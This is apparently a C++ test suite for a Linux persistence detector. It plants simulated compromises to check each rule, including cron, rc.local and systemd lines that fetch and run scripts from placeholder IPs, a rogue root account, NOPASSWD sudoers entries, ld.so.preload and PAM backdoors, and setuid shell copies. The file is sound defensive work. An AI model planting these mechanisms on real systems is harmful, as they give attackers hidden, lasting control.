// H3, H6–H8, H10, H11, H16: each rule on evil, on variants of it, and on its innocent twin.
#include "scene_builder.h"

namespace icecore::detect::test {
namespace {

struct Persistence : testing::Test {
  SceneBuilder scene;
  std::vector<Finding> only(std::string_view rule, Severity least = Severity::kMedium) { return of_rule(scene.run(), rule, least); }
};

TEST_F(Persistence, AnUntouchedMachineRaisesNothing) {
  scene.put("/etc/sudoers", "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n", kImaged, 0440);
  scene.put("/etc/hosts", "127.0.0.1 localhost\n127.0.1.1 web.us-west-2.compute.internal web\n::1 ip6-localhost\n", kBooted);
  scene.put("/etc/sudoers.d/90-cloud-init-users", "# Created by cloud-init\n\nadmin ALL=(ALL) NOPASSWD:ALL\n", kBooted, 0440);
  scene.put("/etc/cron.d/shop-backup", "17 */6 * * * root /usr/local/bin/shop-backup --quiet\n", {kBooted.seconds + kDay, 0});
  scene.put("/usr/local/bin/shop-backup", "\177ELF" + std::string(4000, 'x'), {kBooted.seconds + kDay, 0}, 0755);
  scene.put("/etc/rc.local", "#!/bin/sh -e\nmodprobe dummy\nexit 0\n", {kBooted.seconds + kDay, 0}, 0755);
  scene.put("/etc/systemd/system/shop.service", "[Unit]\nDescription=Shop\n[Service]\nExecStart=/usr/bin/python3 /usr/local/lib/shop/x.py\n",
            {kBooted.seconds + kDay, 0});
  scene.put("/home/admin/.bash_history", "sudo vi /etc/ssh/sshd_config\ndf -h\n", {kBooted.seconds + kDay, 0}, 0600, 1000);
  EXPECT_EQ(alarms(scene.run(), Severity::kLow), "");
  EXPECT_EQ(scene.anomalies.count(), 0U);
}

TEST_F(Persistence, ASecondNameForRoot) {
  scene.account("sysd", 0, "/root", "/bin/bash");
  scene.put("/etc/shadow", "root:*:1::::::\nsysd:$6$salt$abcdefghijklmnop:20000::::::\n", t(0), 0640);
  scene.passwd_time = t(-60);
  const auto found = only("extra-root-account");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].severity, Severity::kCritical);
  EXPECT_EQ(found[0].time->seconds, kNow - 60);
  EXPECT_TRUE(names_path(found[0], "/etc/passwd"));
  EXPECT_TRUE(names_path(found[0], "/etc/shadow"));
  EXPECT_EQ(found[0].locations[0].line, 4U);
  EXPECT_TRUE(found[0].locations[0].excerpt.starts_with("sysd:x:0:0"));
  for (const Provenance& where : found[0].locations)
    EXPECT_EQ(where.excerpt.find("abcdefghijklmnop"), std::string::npos) << "a password's hash was shown";
}

TEST_F(Persistence, SudoWithoutPasswordByAnUnownedDropIn) {
  scene.put("/etc/sudoers", "@includedir /etc/sudoers.d\n", kImaged, 0440);
  scene.put("/etc/sudoers.d/99-x", "sysd ALL=(ALL) NOPASSWD: ALL\nwww-data ALL=(ALL) NOPASSWD: ALL\n", t(0), 0440);
  const auto found = only("sudoers-nopasswd");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].locations.size(), 2U);
  EXPECT_EQ(found[0].locations[1].line, 2U);
}

TEST_F(Persistence, SomebodyAddedToCloudInitsFileIsTold) {
  scene.put("/etc/sudoers", "@includedir /etc/sudoers.d\n", kImaged, 0440);
  scene.put("/etc/sudoers.d/90-cloud-init-users", "admin ALL=(ALL) NOPASSWD:ALL\nwww-data ALL=(ALL) NOPASSWD:ALL\n", t(0), 0440);
  EXPECT_EQ(only("sudoers-nopasswd").size(), 1U);
}

TEST_F(Persistence, ARuleForOneCommandIsAdministration) {
  scene.put("/etc/sudoers", "@includedir /etc/sudoers.d\n", kImaged, 0440);
  scene.put("/etc/sudoers.d/deploy", "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl reload nginx\n", t(0), 0440);
  EXPECT_EQ(only("sudoers-nopasswd", Severity::kInfo).size(), 0U);
}

TEST_F(Persistence, CronThatDownloadsAndRuns) {
  scene.put("/etc/cron.d/time", "*/10 * * * * root curl -fsSL http://198.51.100.23/u.sh | bash >/dev/null 2>&1\n", t(0));
  scene.put("/var/spool/cron/crontabs/www-data", "@reboot wget -qO- http://203.0.113.9/x | sh\n", t(5), 0600, 33);
  scene.put("/etc/cron.hourly/sync", "#!/bin/sh\nwget -q http://203.0.113.9/s -O /tmp/s\nsh /tmp/s\n", t(9), 0755);
  const auto found = only("cron-download-run");
  ASSERT_EQ(found.size(), 3U);
  for (const Finding& finding : found) EXPECT_EQ(finding.severity, Severity::kCritical);
  EXPECT_EQ(found[0].time, t(0));
  EXPECT_EQ(found[0].locations[0].path, "/etc/cron.d/time");
  EXPECT_EQ(found[0].locations[0].line, 1U);
  EXPECT_FALSE(found[0].locations[0].sha256.empty());
}

TEST_F(Persistence, CronOutOfAHiddenFolder) {
  scene.put("/etc/cron.d/x", "@daily root /var/tmp/.x/run\n", t(0));
  EXPECT_EQ(only("cron-download-run").size(), 1U);
}

TEST_F(Persistence, RcLocalInABackgroundedGroup) {
  scene.put("/etc/rc.local", "#!/bin/sh -e\n(wget -qO- http://198.51.100.23/u.sh | sh) &\nexit 0\n", t(0), 0755);
  const auto found = only("rc-local-download-run");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].locations[0].line, 2U);
}

TEST_F(Persistence, APreloadedLibraryThatNoPackageOwns) {
  scene.put("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libgconv.so.1\n", t(0));
  scene.put("/usr/lib/x86_64-linux-gnu/libgconv.so.1", "\177ELF so", t(-1));
  const auto found = only("ld-so-preload");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].severity, Severity::kCritical);
  EXPECT_TRUE(names_path(found[0], "/usr/lib/x86_64-linux-gnu/libgconv.so.1"));
}

TEST_F(Persistence, APreloadedLibraryThatIsGoneIsStillTold) {
  scene.put("/etc/ld.so.preload", "/dev/shm/.x.so\n", t(0));
  EXPECT_EQ(only("ld-so-preload").size(), 1U);
}

TEST_F(Persistence, APackagedAllocatorMayBePreloaded) {
  scene.package("libjemalloc2", {{"/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "\177ELF j"}});
  scene.put("/etc/ld.so.preload", "/lib/x86_64-linux-gnu/libjemalloc.so.2\n", t(0));
  EXPECT_EQ(only("ld-so-preload").size(), 0U);
}

TEST_F(Persistence, AUnitThatPosesAsSystemds) {
  scene.package("systemd-timesyncd",
                {{"/usr/lib/systemd/system/systemd-timesyncd.service", "[Service]\nExecStart=/usr/lib/systemd/systemd-timesyncd\n"}});
  scene.put("/usr/lib/.gconv/timed", "\177ELF", t(-10), 0755);
  const auto unit = scene.put("/etc/systemd/system/systemd-timesyncd-helper.service",
                              "[Unit]\nDescription=Network Time\n[Service]\nExecStart=/usr/lib/.gconv/timed -c /usr/lib/.gconv/c.json\n", t(0));
  const auto link = scene.root->link("/etc/systemd/system/multi-user.target.wants/systemd-timesyncd-helper.service",
                                     "/etc/systemd/system/systemd-timesyncd-helper.service", Times::at(t(1)));
  const auto found = only("systemd-unit-masquerade");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].severity, Severity::kHigh);
  EXPECT_EQ(found[0].locations[0].inode, unit);
  EXPECT_EQ(found[0].locations[1].inode, link);
  EXPECT_EQ(found[0].time, t(0));
}

TEST_F(Persistence, AUnitThatRunsOutOfTmpOrDownloads) {
  scene.put("/etc/systemd/system/a.service", "[Service]\nExecStart=/bin/bash /var/tmp/run.sh\n", t(0));
  scene.put("/etc/systemd/system/b.service", "[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.9/x | sh'\n", t(0));
  scene.put("/etc/systemd/system/ssh.service.d/override.conf", "[Service]\nExecStartPost=/dev/shm/.k\n", t(0));
  EXPECT_EQ(only("systemd-unit-masquerade").size(), 3U);
}

TEST_F(Persistence, PrivateUnitsOfOrdinaryPlacesAreNot) {
  scene.put("/usr/local/bin/node_exporter", "\177ELF", t(-100), 0755);
  scene.put("/etc/systemd/system/node_exporter.service", "[Service]\nExecStart=/usr/local/bin/node_exporter\n", t(0));
  scene.put("/opt/app/bin/app", "\177ELF", t(-100), 0755);
  scene.put("/etc/systemd/system/app@.service", "[Service]\nExecStart=-/opt/app/bin/app --instance %i\n", t(0));
  scene.put("/etc/systemd/system/bash-helper.service", "[Service]\nExecStart=/usr/bin/bash /opt/app/run.sh\n", t(0));
  EXPECT_EQ(only("systemd-unit-masquerade", Severity::kInfo).size(), 0U);
}

TEST_F(Persistence, SetUidCopiesOfAShell) {
  scene.put("/var/tmp/.sh", "\177ELF bash, the real one", t(0), 04755);
  scene.put("/opt/x/helper", "\177ELF other", t(0), 04755);
  scene.put("/var/lib/docker/overlay2/abc/diff/bin/su", "\177ELF su", t(0), 04755);
  scene.package("sudo", {{"/usr/bin/sudo", "\177ELF sudo", 04755}});
  const auto found = only("setuid-unpackaged");
  ASSERT_EQ(found.size(), 2U);
  const Finding& shell = names_path(found[0], "/var/tmp/.sh") ? found[0] : found[1];
  EXPECT_NE(shell.sentence.find("copy of /usr/bin/bash"), std::string::npos) << shell.sentence;
}

TEST_F(Persistence, APackagedInterpreterMadeSetUid) {
  scene.package("findutils", {{"/usr/bin/find", "\177ELF find", 04755}});
  EXPECT_EQ(only("setuid-unpackaged").size(), 1U);
}

TEST_F(Persistence, AModuleOfPamThatNoPackageOwns) {
  scene.package("libpam-modules", {{"/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "\177ELF unix"},
                                   {"/usr/lib/x86_64-linux-gnu/security/pam_permit.so", "\177ELF permit"}});
  scene.put("/usr/lib/x86_64-linux-gnu/security/pam_time2.so", "\177ELF evil", t(-1));
  scene.put("/etc/pam.d/common-auth",
            "auth\tsufficient\t\t\tpam_time2.so\nauth\t[success=1 default=ignore]\tpam_unix.so "
            "nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\n",
            t(0));
  const auto found = only("pam-backdoor");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].locations[0].line, 1U);
  EXPECT_TRUE(names_path(found[0], "/usr/lib/x86_64-linux-gnu/security/pam_time2.so"));
}

TEST_F(Persistence, AnOpenDoorInPam) {
  scene.put("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n@include common-auth\n", t(0));
  scene.put("/etc/pam.d/su", "auth optional pam_exec.so expose_authtok quiet /usr/local/bin/log\n", t(0));
  EXPECT_EQ(only("pam-backdoor").size(), 2U);
}

TEST_F(Persistence, HostsOfUpdatesSentNowhere) {
  scene.put("/etc/hosts", "127.0.0.1 localhost\n127.0.0.1 security.ubuntu.com\n0.0.0.0 database.clamav.net\n", t(0));
  const auto found = only("hosts-tampered");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].locations.size(), 2U);
  EXPECT_EQ(found[0].locations[0].line, 2U);
}

TEST_F(Persistence, AnAdvertisingFilterIsANote) {
  scene.put("/etc/hosts", "127.0.0.1 localhost\n0.0.0.0 ads.example.com\n10.1.2.3 mirror.example.com\n", t(0));
  EXPECT_EQ(only("hosts-tampered", Severity::kLow).size(), 0U);
}

TEST_F(Persistence, MaskedUpdatesUnlessTheImageCameSo) {
  scene.root->link("/etc/systemd/system/unattended-upgrades.service", "/dev/null", Times::at(t(0)));
  scene.root->link("/etc/systemd/system/apt-daily.timer", "/dev/null", Times::at(kImaged));
  scene.root->link("/etc/systemd/system/bluetooth.service", "/dev/null", Times::at(t(0)));
  const auto found = only("updates-masked");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_TRUE(names_path(found[0], "/etc/systemd/system/unattended-upgrades.service"));
}

TEST_F(Persistence, DamageIsAnAnomalyAndTheOthersGoOn) {
  scene.put("/etc/ld.so.preload", "/dev/shm/.x.so\n", t(0));
  scene.put("/etc/cron.d/x", "* * * * * root curl http://203.0.113.9/x | sh\n", t(0));
  scene.root->damage("/etc/cron.d/x", Code::kCorrupt);
  EXPECT_EQ(only("ld-so-preload").size(), 1U);
  EXPECT_GE(scene.anomalies.count(), 1U);
}

TEST_F(Persistence, WithoutAPackageDatabaseOwnershipIsNoArgument) {
  scene.with_dpkg = false;
  scene.put("/usr/bin/su", "\177ELF su", kImaged, 04755);
  scene.put("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "\177ELF", kImaged);
  scene.put("/etc/pam.d/x", "auth required pam_unix.so\n", kImaged);
  scene.put("/usr/lib/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/x\n", kImaged);
  EXPECT_EQ(alarms(scene.run()), "");
}

}  // namespace
}  // namespace icecore::detect::test
